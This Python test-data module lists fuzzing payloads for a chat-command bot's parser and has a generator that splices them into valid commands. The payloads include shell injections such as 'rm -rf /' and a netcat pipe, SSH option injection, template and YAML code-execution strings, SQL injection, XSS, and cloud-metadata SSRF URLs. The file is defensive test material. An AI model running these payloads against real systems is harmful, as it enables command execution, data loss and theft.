# Tables of odd words stand as they are.
# ruff: noqa: E501
"""Words that somebody would try in a command: two hundred of them, and odd names for hosts."""

from collections.abc import Iterator

_SHELL = (
    "; rm -rf /", "&& id", "|| id", "| nc 192.0.2.9 1", "& sleep 9", "$(id)", "`id`", "${IFS}id", "$((1+1))",
    "> /etc/passwd", "< /etc/shadow", ">> ~/.ssh/authorized_keys", "2>&1", "<<EOF", "!!", "!-1", "*", "?", "~",
    "~root", "{a,b}", "[a-z]*", "'", '"', "\\", "''id''", '"$(id)"', "\\x24(id)", "%24(id)", "\nid", "\rid",
    "\r\nid", "\0id", "\x1bid", "\tid", "\vid", "#comment", "id #", "exec sh", "eval id", "a=b id", "-c id",
)  # fmt: skip
_OPTIONS = (
    "-oProxyCommand=id", "-o ProxyCommand=id", "--host=x", "--root=/", "-", "--", "---", "-x", "-F/etc/passwd",
    "-i/etc/shadow", "-J192.0.2.9", "-L1:2:3", "-R1:2:3", "-D1", "-w0", "-E/tmp/x", "--help", "--version",
    "-h192.0.2.9", "=x", "a=b", "host=web-02", "force=true", "approve=yes", "sudo", "--sudo",
)  # fmt: skip
_UNICODE = (
    "web\u201101", "wеb-01", "ｗｅｂ-01", "web-０１", "web\u200b-01", "web-01\u200b", "\ufeffweb-01", "web-01\u202e",
    "\u202eweb-01", "web\u00ad-01", "web-01\u0301", "web‐01", "web–01", "web—01", "web−01", "𝐰𝐞𝐛-01", "web-01\u2028x",
    "web-01\u2029", "web-01\x85", "wéb-01", "web-०१", "\U000e0077eb-01", "web-01\U000e0001", "İ", "ß", "ﬀ", "\ud7ff",
    "👩‍💻", "\U0001f4a9", "web。01", "web．01", "web․01",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{{ host.address }}", "{% for x in y %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(x)s", "{0}",
    "{0.__class__}", "{{cycler.__init__.__globals__.os.popen('id').read()}}", "{{ ''.__class__.__mro__ }}",
    "%s%s%s%n", "%d", "$PATH", "${PATH}", "%PATH%", "!!python/object/apply:os.system [id]", "&a [*a]", "*a", "<<: *a",
)  # fmt: skip
_MARKUP = (
    "<!channel>", "<!here>", "<!everyone>", "<@U0APPROVER>", "<#C0INCIDENTS>", "<!subteam^S0SRE>",
    "<http://web-01|web-01>", "<http://evil.example|web-01>", "<https://web-01>", "<mailto:a@b|a@b>", "&lt;!channel&gt;",
    "&amp;&amp; id", "&#36;(id)", "&#x24;(id)", "```", "`web-01`", "*web-01*", "_web-01_", "~web-01~", ">web-01",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "[web-01](http://evil.example)",
    "=cmd|' /C calc'!A0", "@here", "@channel", ":x:", "<!date^0^{date}|web-01>", "<|>", "<>", "<", ">", "&", "&;",
)  # fmt: skip
_PATHS = (
    "../web-01", "web-01/../web-02", "/etc/passwd", "\\\\evil\\share", "file:///etc/passwd", "http://169.254.169.254/",
    "gopher://x", "ssh://root@web-01", "root@web-01", "web-01:22", "[::1]", "::1", "127.0.0.1", "127.1", "2130706433",
    "0x7f000001", "0177.0.0.1", "localhost", "web-01.", ".web-01", "web..01", "web-01..", "-web-01", "web-01-",
    "web_01", "WEB-01", "web-01,web-02", "web-01;web-02", "web-01|web-02", "web-01+web-02", "web-01\\n", "web-01%00",
    "web-01%0aid", "xn--wb-01-9ua", "web-01.evil.example", "web-01@evil.example", "a" * 64, "a" * 300, "a." * 150 + "a",
)  # fmt: skip
_WORDS = (
    "export", "note", "again", "status", "help", "paste", "explain", "502", "999", "export inc-1 pdf", "export ../x md",
    "note inc-1", "note", "again inc-1 inc-2", "explain ../../etc/passwd", "explain x' OR '1'='1", "' OR 1=1 --",
    "inc-1'; DROP TABLE events; --", "1e999", "NaN", "null", "None", "undefined", "true", "[]", "{}", "\\u0000",
)  # fmt: skip

PAYLOADS = (*_SHELL, *_OPTIONS, *_UNICODE, *_TEMPLATES, *_MARKUP, *_PATHS, *_WORDS)

#: Names no fleet has and no resolver may be asked about.
ODD_HOSTS = (
    *_OPTIONS, *_UNICODE, *_PATHS, "", " ", ".", "..", "-.", "a.-b", "*.web-01", "web-01 ", "\tweb-01",
    "web-01\n", "0", "::ffff:127.0.0.1", "1.1.1.1", "web-01\0",
)  # fmt: skip


def texts(seed: int, count: int) -> Iterator[str]:
    """Command texts: payloads alone, before, behind and inside what would be a good command."""
    good = ("web-01", "502 web-01", "web-01 web-02", "export inc-1 md", "note inc-1 moved", "again inc-1")
    for turn in range(count):
        payload = PAYLOADS[(turn * 7 + seed) % len(PAYLOADS)]
        other = PAYLOADS[(turn * 31 + seed * 3) % len(PAYLOADS)]
        base = good[turn // len(PAYLOADS) % len(good)]
        yield (
            payload, f"{base}{payload}", f"{base} {payload}", f"{payload} {base}", f"{payload}{base}",
            f"{base[:3]}{payload}{base[3:]}", f"{payload} {other}", f"{base} {payload} {other} " * 40,
        )[turn * 5 % 8]  # fmt: skip
